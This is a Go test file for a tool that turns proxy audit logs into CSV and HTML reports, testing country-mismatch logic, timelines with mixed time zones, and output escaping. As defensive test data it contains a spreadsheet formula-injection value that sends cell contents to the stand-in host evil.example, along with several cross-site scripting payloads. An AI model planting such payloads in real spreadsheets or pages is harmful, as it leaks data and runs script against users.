package report

import (
	"bytes"
	"encoding/csv"
	"regexp"
	"strings"
	"testing"
)

func readLines(t *testing.T, opt Options, lines ...string) *Report {
	t.Helper()
	a := New(opt)
	if err := a.Read("audit.jsonl", strings.NewReader(strings.Join(lines, "\n")+"\n")); err != nil {
		t.Fatal(err)
	}
	return a.Report()
}

// TestMismatchPerRequest: LINE declares JP for the service and KR for its
// media endpoint; each request went to the country declared for it, so
// there is no mismatch (comparing every dialed country with every declared
// one flagged one whenever two countries were declared).
func TestMismatchPerRequest(t *testing.T) {
	r := readLines(t, Options{},
		`{"time":"2026-06-15T09:00:00+09:00","kind":"request","client_group":"welfare","service":"line","country":"JP","declared_country":"JP","effective_country":"JP","destination":"domestic","action":"allow","mode":"inspected","upload_bytes":10,"status":200}`,
		`{"time":"2026-06-15T09:00:01+09:00","kind":"request","client_group":"welfare","service":"line","country":"KR","declared_country":"KR","effective_country":"KR","destination":"foreign","action":"allow","mode":"inspected","upload_bytes":10,"status":200}`,
	)
	if len(r.Services) != 1 {
		t.Fatalf("%d services", len(r.Services))
	}
	if s := r.Services[0]; s.Mismatch {
		t.Errorf("mismatch flagged: dialed %v, declared %v", s.Dialed, s.Declared)
	}
}

// TestTimelineMixedOffsets: a block logged in UTC, read after a line in
// JST (a log re-exported by a SIEM, a container without TZ, a DST change)
// is on the chart, in the hour it happened.
func TestTimelineMixedOffsets(t *testing.T) {
	r := readLines(t, Options{},
		`{"time":"2026-06-15T10:00:00+09:00","kind":"request","client_group":"a","service":"s","country":"JP","destination":"domestic","action":"allow","mode":"http","status":200}`,
		`{"time":"2026-06-15T00:30:00Z","kind":"request","client_group":"a","service":"s","country":"US","destination":"foreign","action":"block","mode":"http","status":403}`,
	)
	var sum int64
	for _, p := range r.Timeline.Points {
		sum += p.Blocked
	}
	if sum != r.Totals.Blocked {
		t.Errorf("timeline shows %d blocked, totals %d (points %+v)", sum, r.Totals.Blocked, r.Timeline.Points)
	}
}

// TestCSVFormulaInjection: cells that start with = + - @ would be formulas
// when the CSV is opened in Excel; titles come from the rules (free text)
// and every value from the log file.
func TestCSVFormulaInjection(t *testing.T) {
	r := readLines(t, Options{GroupTitles: map[string]string{"welfare": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"}},
		`{"time":"2026-06-15T09:00:00+09:00","kind":"request","client_group":"welfare","service":"@SUM(1+1)","country":"-2+3","destination":"foreign","action":"allow","mode":"http","status":200}`,
	)
	var b bytes.Buffer
	if err := WriteCSV(&b, r); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b.Bytes(), []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, cell := range recs[1][:6] {
		if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
			t.Errorf("cell %q starts a formula", cell)
		}
	}
}

// TestHTMLEscapes: titles from the rules and values from the log (which
// clients' requests shape) are text in the HTML report, never markup; and
// the report loads nothing from outside.
func TestHTMLEscapes(t *testing.T) {
	r := readLines(t, Options{GroupTitles: map[string]string{"welfare": "<script>alert(1)</script>"}, ServiceTitles: map[string]string{"x": "\"><img src=x onerror=alert(1)>"}},
		`{"time":"2026-06-15T09:00:00+09:00","kind":"request","client_group":"welfare","service":"x","country":"<b>KR</b>","destination":"foreign","action":"block","mode":"http","upload_bytes":5,"status":403}`,
		`{"time":"2026-06-15T09:00:00+09:00","kind":"request","reason":"<svg onload=alert(1)>","status":400}`,
	)
	var b bytes.Buffer
	if err := WriteHTML(&b, r); err != nil {
		t.Fatal(err)
	}
	if m := regexp.MustCompile(`<script|<img|<svg onload|<b>KR`).Find(b.Bytes()); m != nil {
		t.Errorf("unescaped %q", m)
	}
	if m := regexp.MustCompile(`(src|href)=["']?https?:`).Find(b.Bytes()); m != nil {
		t.Errorf("external ref %q", m)
	}
}
